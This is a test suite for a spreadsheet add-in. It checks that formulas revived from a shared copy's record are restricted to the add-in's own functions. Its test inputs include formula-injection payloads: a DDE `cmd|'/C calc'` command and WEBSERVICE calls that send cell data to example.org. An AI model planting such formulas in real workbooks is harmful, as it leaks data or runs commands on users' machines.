/** A copy passes through many hands before it is made live again: only formulas of ours come back from its record. */
import { clubCopy } from "../../src/share/clubCopy";
import { revive } from "../../src/share/revive/revive";
import type { Sheet, SheetCell, Workbook } from "../../src/sheets/workbook";
import { sampleBook } from "./sampleBooks";

const ORDER = { kind: "formulas", date: "2026-11-25", version: "0.2.0" } as const;
const RECORD = "Original formulas";

const copy = clubCopy(
  sampleBook({
    S: {
      rows: [[4, 5]],
      formulas: {
        A4: { code: "=DUCT.AREA(A1)", shows: [[0.0872664626]] },
        A6: { code: "=DUCT.AREA(B1)", shows: [[0.1363538478]] },
      },
    },
    Other: { rows: [[1]] },
  }),
  ORDER,
).book;

/** The copy with cells of its record typed over; the first formula stands in row 5. */
const typedOver = (cells: Readonly<Record<string, SheetCell>>): Workbook => ({
  ...copy.workbook,
  sheets: copy.workbook.sheets.map((sheet): Sheet =>
    sheet.name === RECORD ? { ...sheet, cells: sheet.cells.map((cell) => cells[cell.at] ?? cell) } : sheet,
  ),
});
const again = (workbook: Workbook) => revive({ workbook, shown: copy.shown });
const cellOf = (workbook: Workbook | null, at: string) =>
  workbook!.sheets.find(({ name }) => name === "S")!.cells.find((cell) => cell.at === at);

const ASKS = "it asks another place for its value (WEBSERVICE)";
const DDE = "it asks another program for its value (a DDE link)";
const BOOK = "it reads another workbook";
const UNREAD = "what is recorded is no formula that can be read";

test.each([
  ['=WEBSERVICE("http://example.org/?"&A1)', ASKS],
  ['=DUCT.AREA(WEBSERVICE("http://example.org/"))', ASKS],
  ["=DUCT.AREA(4)+MAP({1,2},_xlfn.WEBSERVICE)", ASKS],
  ["=DUCT.AREA(4)&cmd|'/C calc'!A0", DDE],
  ["=DUCT.AREA('C:\\shop\\[b.xlsx]S'!A1)", BOOK],
  ["=DUCT.AREA([1]!name)", BOOK],
  ["=DUCT.AREA(Book.xlsx!name)", "it reads a sheet that is not there (Book.xlsx)"],
  ['=DUCT.AREA(HYPERLINK("http://example.org/"))', "HYPERLINK may lead out of this workbook"],
  ['=DUCT.AREA(INDIRECT("A"&ROW()))', "INDIRECT may lead out of this workbook"],
  ["=SUM(4,5)", "what is recorded calls no function of Duct Ledger"],
  ['="DUCT.AREA(4)"', "what is recorded calls no function of Duct Ledger"],
  ["=OTHER.THING(DUCT.AREA(4))", "it calls a function of another add-in"],
  ["=DUCT.AREA(4", UNREAD],
  ["=DUCT.AREA(4))", UNREAD],
  ['=DUCT.AREA("4)', UNREAD],
  ["DUCT.AREA(4)", UNREAD],
  ["@DUCT.AREA(4)", UNREAD],
])("%s is not made live, and its cell stays with the number that it shows", (code, why) => {
  const { workbook, left } = again(typedOver({ A5: { at: "A5", value: code } }));
  expect(left).toEqual([`S!A4: ${why}`]);
  const cell = cellOf(workbook, "A4")!;
  if ("formula" in cell)
    expect(cell.formula).not.toMatch(/duct|webservice|\||\[|hyperlink/i); // the copy's own plain formula
  else expect(cell.value).toBe(0.0872664626);
  expect(cellOf(workbook, "A6")).toMatchObject({ formula: "=DUCT.AREA(B1)" });
  expect(JSON.stringify(workbook)).not.toContain("WEBSERVICE");
});

test("a call in the place of a range comes back no more than one in the formula", () => {
  const { workbook, left } = again(
    typedOver({ E5: { at: "E5", formula: '=ROWS(WEBSERVICE("http://example.org/"))' } }),
  );
  expect(left).toEqual([`S!A4: ${ASKS}`]);
  expect(JSON.stringify(workbook)).not.toContain("WEBSERVICE");
});

test("a range of another workbook in the place of one of this", () => {
  const { left } = again(typedOver({ E5: { at: "E5", formula: "=ROWS('[1]S'!$A$1)" } }));
  expect(left).toEqual([`S!A4: ${BOOK}`]);
});

test("a range whose cells were moved to another sheet is read there", () => {
  const { workbook, left } = again(typedOver({ E5: { at: "E5", formula: "=ROWS(Other!C3)" } }));
  expect(left).toEqual([]);
  expect(cellOf(workbook, "A4")).toMatchObject({ formula: "=DUCT.AREA(Other!C3)" });
});

test.each([
  [1e9, 1e9],
  [1, 250_001],
  [0, 1],
  [1.5, 1],
  [-1, -1],
  ["many", 1],
])("a record of %p rows and %p columns is not believed", (rows, columns) => {
  const { workbook, left } = again(typedOver({ B5: { at: "B5", value: rows }, C5: { at: "C5", value: columns } }));
  expect(left).toEqual(["S!A4: the record does not say how many cells it filled"]);
  expect(cellOf(workbook, "A6")).toMatchObject({ formula: "=DUCT.AREA(B1)" });
});

test("a place at the end of all sheets is none", () => {
  const { workbook, left } = again(typedOver({ D5: { at: "D5", formula: "=ROWS('S'!$XFD$1048576)" } }));
  expect(left).toEqual(["S!XFD1048576: its cell lies far outside the sheet"]);
  expect(cellOf(workbook, "XFD1048576")).toBeUndefined();
});

test("where nothing is ours, nothing is made live, and each reason is told", () => {
  const { workbook, left } = again(
    typedOver({ A5: { at: "A5", value: "=1+1" }, A6: { at: "A6", value: '=WEBSERVICE("http://example.org/")' } }),
  );
  expect(workbook).toBeNull();
  expect(left).toEqual(["S!A4: what is recorded calls no function of Duct Ledger", `S!A6: ${ASKS}`]);
});
